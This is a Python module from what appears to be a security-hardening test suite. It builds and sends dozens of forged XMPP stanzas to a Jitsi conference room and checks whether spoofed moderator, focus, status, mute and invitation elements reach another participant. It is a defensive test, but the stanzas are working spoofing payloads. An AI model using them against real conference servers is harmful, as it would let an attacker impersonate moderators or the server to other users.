"""Ways to be taken for the room, the focus, a machine or a moderator, for a person who has an account and is in a room.

What counts is what another participant receives: an element that only the server may send, or one at a place where no
client looks for it.
"""

from __future__ import annotations

from dataclasses import dataclass
from functools import partial
from typing import TYPE_CHECKING
from xml.sax.saxutils import quoteattr

from hardener.proof.attack.record import Judgement, Target, refused, succeeded
from hardener.proof.attack.session import Scene, Way
from hardener.proof.xmpp.muc import MUC, USER, presence, word_of_room
from hardener.proof.xmpp.stanzas import condition, local
from hardener.proof.xmpp.streams import TRANSPORTS, WebSocketStream

if TYPE_CHECKING:
    from collections.abc import Iterator
    from xml.etree.ElementTree import Element

    from hardener.proof.xmpp.client import Client

AREA = "spoofed presence"
_BOTH = frozenset({"an empty word of the room, nested", "an item of the focus, nested", "a subject beside a text"})
_MALLORY, _WITNESS = "bbbb2222", "aaaa1111"
_CLIENT = "jabber:client"
_NAME = "http://jitsi.org/protocol/display-name"
_JITMEET = "http://jitsi.org/jitmeet"


def _named(*tags: str) -> frozenset[str]:
    """Return tags as the parser has them; without a namespace: the stream's."""
    return frozenset(tag if tag.startswith("{") else f"{{{_CLIENT}}}{tag}" for tag in tags)


_WORDS = _named(f"{{{USER}}}x", f"{{{USER}}}item", f"{{{USER}}}status", f"{{{USER}}}destroy", f"{{{USER}}}invite")


@dataclass(frozen=True)
class Spoof:
    """A forged stanza, and the parts of it that must not arrive: elements of these names, at any depth, or only below
    ``depth``.

    ``kind``: a presence that is an update, a join or a leave; a message to all, a private one, or an error; a request.
    """

    inside: str
    forbidden: frozenset[str] = _WORDS
    kind: str = "update"
    depth: int = 1
    attribute: str = ""  # only with this attribute
    needs: str = "account"


def spoofs(target: Target) -> dict[str, Spoof]:
    """Return all of them, by name."""
    auth = target.host("auth")

    def item(jid: str = "", role: str = "moderator", affiliation: str = "owner") -> str:
        address = f"jid={quoteattr(jid)} " if jid else ""
        return f"<x xmlns='{USER}'><item {address}role='{role}' affiliation='{affiliation}'/></x>"

    def nested(inside: str) -> str:
        return f"<z xmlns='urn:z'>{inside}</z>"

    focus = item(f"focus@{auth}/focus")
    codes = "".join(f"<status code='{code}'/>" for code in ("110", "301", "303", "307", "332"))
    nick = "<nick xmlns='http://jabber.org/protocol/nick'>{}</nick>"
    return {
        "a word of the room": Spoof(focus),
        "an empty word of the room, nested": Spoof(nested(f"<x xmlns='{USER}'/>")),
        "an item of the focus, nested": Spoof(nested(focus)),
        "an item of a moderator, nested": Spoof(nested(item(f"mallory@{target.domain}/m"))),
        "an item without an address, nested": Spoof(nested(item())),
        "an item of the hidden domain, nested": Spoof(
            nested(item(f"x@{target.host('hidden')}/x", "participant", "none"))
        ),
        "an item of the recorder, nested": Spoof(nested(item(f"recorder@{target.host('recorder')}/r"))),
        "an item, nested twice": Spoof(nested(f"<y xmlns='urn:y'>{focus}</y>")),
        "an item, in a name": Spoof(nick.format(f"n{focus}")),
        "an item, in statistics": Spoof(f"<stats-id>s{focus}</stats-id>"),
        "an item, in a property": Spoof(f"<jitsi_participant_a>v{focus}</jitsi_participant_a>"),
        "an item, in features": Spoof(f"<features><feature var='f'>{focus}</feature></features>"),
        "an item, in an avatar's element": Spoof(f"<x xmlns='vcard-temp:x:update'><photo/>{focus}</x>"),
        "an avatar's element": Spoof(
            "<x xmlns='vcard-temp:x:update'><photo>p</photo></x>", _named("{vcard-temp:x:update}x")
        ),
        "an item, nested, on joining": Spoof(nested(focus), kind="join"),
        "an item, in the join's own element": Spoof(f"<x xmlns='{MUC}'>{focus}</x>", kind="join"),
        "an item, by a prefix": Spoof(
            f"<p:x xmlns:p='urn:z'><q:x xmlns:q='{USER}'><q:item role='moderator'/></q:x></p:x>"
        ),
        "codes of the room, nested": Spoof(nested(f"<x xmlns='{USER}'>{codes}</x>")),
        "codes of the room, as a status": Spoof(codes, _named("status"), attribute="code"),
        "a status, nested": Spoof(nested(f"<status xmlns='{_CLIENT}'>s</status>"), _named("status"), depth=2),
        "a change of devices": Spoof("<flip_device/>", _named("flip_device")),
        "a change of devices, nested": Spoof(nested(f"<flip_device xmlns='{_CLIENT}'/>"), _named("flip_device")),
        "a name, nested": Spoof(nested(nick.format("Alice")), _named("{http://jabber.org/protocol/nick}nick")),
        "statistics, nested": Spoof(nested(f"<stats-id xmlns='{_CLIENT}'>s</stats-id>"), _named("stats-id")),
        "a property, nested": Spoof(
            nested(f"<jitsi_participant_a xmlns='{_CLIENT}'>v</jitsi_participant_a>"), _named("jitsi_participant_a")
        ),
        "a property in another namespace": Spoof(
            "<jitsi_participant_a xmlns='urn:z'>v</jitsi_participant_a>", _named("{urn:z}jitsi_participant_a")
        ),
        "what the focus says of the conference": Spoof(
            "<conference-properties><property key='a' value='b'/></conference-properties><bridgeNotAvailable/>"
            "<etherpad>https://pad.example/p</etherpad>"
            f"<versions xmlns='{_JITMEET}'><component name='focus'>1</component></versions>",
            _named("conference-properties", "bridgeNotAvailable", "etherpad", f"{{{_JITMEET}}}versions"),
        ),
        "what a gateway says": Spoof(
            "<call-control phone='1' pin='2'/><transcription-status status='ON'/><bot type='b'/>"
            "<jibri-sip-call-state state='on' sipaddress='s'/>",
            _named("call-control", "transcription-status", "bot", "jibri-sip-call-state"),
        ),
        "an identity": Spoof("<identity><user><id>alice</id><name>Alice</name></user></identity>", _named("identity")),
        "permissions": Spoof(
            f"<permissions xmlns='{_JITMEET}'><p name='a' val='true'/></permissions>",
            _named(f"{{{_JITMEET}}}permissions"),
        ),
        "a moderator's commands": Spoof(
            f"<follow-me tileViewEnabled='true'/><startmuted xmlns='{_JITMEET}/start-muted' audio='true'/>",
            _named("follow-me", f"{{{_JITMEET}/start-muted}}startmuted"),
            needs="named-hosts",
        ),
        "a leave with codes of the room": Spoof(
            nested(f"<x xmlns='{USER}'>{codes}<destroy><reason>r</reason></destroy></x>"), kind="leave"
        ),
        "a leave that is to be ignored": Spoof(
            f"<ignore xmlns='{_JITMEET}/'/>", _named(f"{{{_JITMEET}/}}ignore"), kind="leave"
        ),
        "a leave with a change of devices": Spoof("<flip_device/>", _named("flip_device"), kind="leave"),
        "an item, nested, in a message": Spoof(f"<body>b</body>{nested(focus)}", kind="message"),
        "an item, in a message's text": Spoof(f"<body>b{focus}</body>", kind="message"),
        "an invitation by the room": Spoof(
            f"<body>b</body><x xmlns='{USER}'><invite from='{target.muc}'/><status code='104'/></x>",
            frozenset({f"{{{USER}}}invite", f"{{{USER}}}status"}),
            kind="message",
        ),
        "a text, nested": Spoof(nested(f"<body xmlns='{_CLIENT}'>b</body>"), _named("body"), kind="message", depth=2),
        "a subject beside a text": Spoof("<subject>s</subject><body>b</body>", _named("subject"), kind="message"),
        "a subject, in private": Spoof("<subject>s</subject><body>b</body>", _named("subject"), kind="private"),
        "another name and sender": Spoof(
            f"<body>b</body><display-name xmlns='{_NAME}' source='visitor'>Alice</display-name>"
            "<addresses xmlns='http://jabber.org/protocol/address'><address type='ofrom' jid='a@b'/></addresses>",
            _named(f"{{{_NAME}}}display-name", "{http://jabber.org/protocol/address}addresses"),
            kind="private",
        ),
        "another time": Spoof(
            "<body>b</body><delay xmlns='urn:xmpp:delay' stamp='2000-01-01T00:00:00Z'/>",
            _named("{urn:xmpp:delay}delay"),
            kind="message",
        ),
        "an error in the server's words": Spoof(
            "<settings-error><text>t</text></settings-error><error type='cancel'>"
            "<not-allowed xmlns='urn:ietf:params:xml:ns:xmpp-stanzas'/>"
            "<text xmlns='urn:ietf:params:xml:ns:xmpp-stanzas'>t</text></error>",
            _named("settings-error", "{urn:ietf:params:xml:ns:xmpp-stanzas}text"),
            kind="error",
        ),
        # The item only: the room adds an empty word of its own to each private message.
        "an item, in an error": Spoof(f"<error type='cancel'>{focus}</error>", _named(f"{{{USER}}}item"), kind="error"),
        "a text, in an error": Spoof(
            "<error type='cancel'><not-allowed xmlns='urn:ietf:params:xml:ns:xmpp-stanzas'/><body>b</body></error>",
            _named("body"),
            kind="error",
        ),
        "a request to be silent": Spoof(
            f"<mute xmlns='{_JITMEET}/audio'>true</mute>", _named(f"{{{_JITMEET}/audio}}mute"), kind="request"
        ),
        "a word of the focus, in a call": Spoof(
            "<jingle xmlns='urn:xmpp:jingle:1' action='session-info' sid='s'>"
            f"<bridge-session xmlns='http://jitsi.org/protocol/focus' id='1'/>{focus}</jingle>",
            _WORDS | _named("{http://jitsi.org/protocol/focus}bridge-session"),
            kind="request",
        ),
    }


def ways(target: Target) -> Iterator[Way]:
    """Yield all of them; each needs an account. What a room passes on hardly depends on the transport: over BOSH a
    few.
    """
    for name, spoof in spoofs(target).items():
        transports = tuple(TRANSPORTS) if name in _BOTH else (WebSocketStream.name,)
        yield Way(AREA, name, partial(_spoof, name=name), transports, spoof.needs)


def _enter(scene: Scene, client: Client, nick: str, inside: str = "") -> None:
    element = client.join(scene.room, nick, inside)
    if element is None or element.get("type") == "error":
        why = "keeps silent" if element is None else f"says {condition(element)}"
        raise ValueError(f"the room {why}: an ordinary join fails")


def _spoof(scene: Scene, name: str) -> Judgement:
    spoof = spoofs(scene.target)[name]
    witness, client = scene.client(), scene.client()
    scene.conference(witness)
    _enter(scene, witness, _WITNESS)
    if spoof.kind == "join":
        _enter(scene, client, _MALLORY, spoof.inside)
    else:
        _enter(scene, client, _MALLORY)
        witness.until_ping()
        client.stream.send(_stanza(scene, spoof))
        client.until_ping()
    place = f"{scene.room}/{_MALLORY}"
    arrived = [stanza for stanza in witness.until_ping() if stanza.get("from") == place]
    for element in arrived:
        if found := sorted({local(child) for child in _spoofed(element, spoof)}):
            return succeeded(f"{', '.join(found)} of a participant arrives at another one")
    return refused("it arrives without what a participant may not say" if arrived else "nothing of it arrives")


def _stanza(scene: Scene, spoof: Spoof) -> str:
    place, witness = f"{scene.room}/{_MALLORY}", f"{scene.room}/{_WITNESS}"
    if spoof.kind in {"update", "leave"}:
        return presence(place, spoof.inside, "unavailable" if spoof.kind == "leave" else "")
    if spoof.kind == "request":
        return f"<iq xmlns='{_CLIENT}' type='set' id='{scene.mark}' to={quoteattr(witness)}>{spoof.inside}</iq>"
    to, kind = (scene.room, "groupchat") if spoof.kind == "message" else (witness, "chat")
    kind = "error" if spoof.kind == "error" else kind
    return f"<message xmlns='{_CLIENT}' type='{kind}' id='{scene.mark}' to={quoteattr(to)}>{spoof.inside}</message>"


def _spoofed(element: Element, spoof: Spoof) -> Iterator[Element]:
    """Yield what must not be there, but for the room's own word, which each presence has."""
    own = word_of_room(element) if local(element) == "presence" else None

    def below(parent: Element, depth: int) -> Iterator[Element]:
        for child in parent:
            if child is own:
                continue
            wanted = not spoof.attribute or child.get(spoof.attribute) is not None
            if child.tag in spoof.forbidden and depth >= spoof.depth and wanted:
                yield child
            yield from below(child, depth + 1)

    yield from below(element, 1)
